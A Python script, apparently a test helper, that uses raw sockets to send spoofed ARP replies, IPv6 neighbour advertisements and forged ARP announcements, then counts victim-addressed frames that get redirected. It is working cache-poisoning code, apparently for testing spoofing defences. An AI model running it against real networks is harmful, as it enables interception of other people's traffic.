#!/usr/bin/env python3
"""Plays a device claiming another's address, through raw sockets (test helper).

usage: spoof.py IFACE arp VICTIM_IP GATEWAY_IP GATEWAY_MAC SECONDS
       spoof.py IFACE na VICTIM_IP6 GATEWAY_IP6 GATEWAY_MAC SECONDS
       spoof.py IFACE forge VICTIM_MAC MADE_UP_IP
arp / na: for SECONDS, every 100 ms, tells the gateway that VICTIM_IP(6) is at this interface's
MAC (an ARP reply; an unsolicited neighbour advertisement with the override flag), and counts
the frames that reach this interface addressed to the victim's address. Prints that count.
forge: one ARP announcement of MADE_UP_IP with VICTIM_MAC as the Ethernet source and sender.
"""
import socket
import struct
import sys
import time

ETH_P_ALL = 0x0003
PACKET_OUTGOING = 4


def mac_bytes(text):
    return bytes(int(x, 16) for x in text.split(":"))


def own_mac(iface):
    with open(f"/sys/class/net/{iface}/address") as f:
        return mac_bytes(f.read().strip())


def arp(src_mac, dst_mac, op, sender_mac, sender_ip, target_mac, target_ip):
    body = struct.pack("!HHBBH", 1, 0x0800, 6, 4, op)
    body += sender_mac + socket.inet_aton(sender_ip) + target_mac + socket.inet_aton(target_ip)
    return dst_mac + src_mac + b"\x08\x06" + body


def checksum(data):
    if len(data) % 2:
        data += b"\x00"
    total = sum(struct.unpack(f"!{len(data) // 2}H", data))
    while total >> 16:
        total = (total & 0xFFFF) + (total >> 16)
    return ~total & 0xFFFF


def advertisement(src_mac, dst_mac, src_ip6, dst_ip6, target_ip6):
    src, dst = socket.inet_pton(socket.AF_INET6, src_ip6), socket.inet_pton(socket.AF_INET6, dst_ip6)
    target = socket.inet_pton(socket.AF_INET6, target_ip6)
    # Type 136, code 0; flags: override (not solicited, not router); option 2: target MAC.
    icmp = struct.pack("!BBHI", 136, 0, 0, 0x20000000) + target + bytes([2, 1]) + src_mac
    pseudo = src + dst + struct.pack("!I3xB", len(icmp), 58)
    icmp = icmp[:2] + struct.pack("!H", checksum(pseudo + icmp)) + icmp[4:]
    header = struct.pack("!IHBB", 0x60000000, len(icmp), 58, 255) + src + dst
    return dst_mac + src_mac + b"\x86\xdd" + header + icmp


def own_ip6(iface):
    """A global address of the interface (the advertisement's source)."""
    with open("/proc/net/if_inet6") as f:
        for line in f:
            cols = line.split()
            if cols[5] == iface and not cols[0].startswith("fe80"):
                return socket.inet_ntop(socket.AF_INET6, bytes.fromhex(cols[0]))
    raise SystemExit(f"no global IPv6 address on {iface}")


def spoof_and_count(iface, frame, seconds, ethertype, victim, offset, length):
    s = socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.htons(ETH_P_ALL))
    s.bind((iface, 0))
    s.setblocking(False)
    received, end, next_send = 0, time.monotonic() + seconds, 0.0
    while time.monotonic() < end:
        now = time.monotonic()
        if now >= next_send:
            s.send(frame)
            next_send = now + 0.1
        try:
            data, addr = s.recvfrom(65535)
        except BlockingIOError:
            time.sleep(0.002)
            continue
        if (addr[2] != PACKET_OUTGOING and data[12:14] == ethertype
                and data[offset:offset + length] == victim):
            received += 1
    print(received)


def main():
    iface, kind = sys.argv[1], sys.argv[2]
    mine = own_mac(iface)
    if kind == "arp":
        victim, gw_ip, gw_mac, secs = sys.argv[3], sys.argv[4], mac_bytes(sys.argv[5]), float(sys.argv[6])
        frame = arp(mine, gw_mac, 2, mine, victim, gw_mac, gw_ip)
        # IPv4 destination: bytes 30..34 of an IPv4 frame.
        spoof_and_count(iface, frame, secs, b"\x08\x00", socket.inet_aton(victim), 30, 4)
    elif kind == "na":
        victim, gw_ip6, gw_mac, secs = sys.argv[3], sys.argv[4], mac_bytes(sys.argv[5]), float(sys.argv[6])
        frame = advertisement(mine, gw_mac, own_ip6(iface), gw_ip6, victim)
        # IPv6 destination: bytes 38..54 of an IPv6 frame.
        spoof_and_count(iface, frame, secs, b"\x86\xdd", socket.inet_pton(socket.AF_INET6, victim), 38, 16)
    elif kind == "forge":
        victim_mac, made_up = mac_bytes(sys.argv[3]), sys.argv[4]
        frame = arp(victim_mac, b"\xff" * 6, 1, victim_mac, made_up, b"\x00" * 6, made_up)
        s = socket.socket(socket.AF_PACKET, socket.SOCK_RAW)
        s.bind((iface, 0))
        s.send(frame)
    else:
        raise SystemExit(__doc__)


if __name__ == "__main__":
    main()
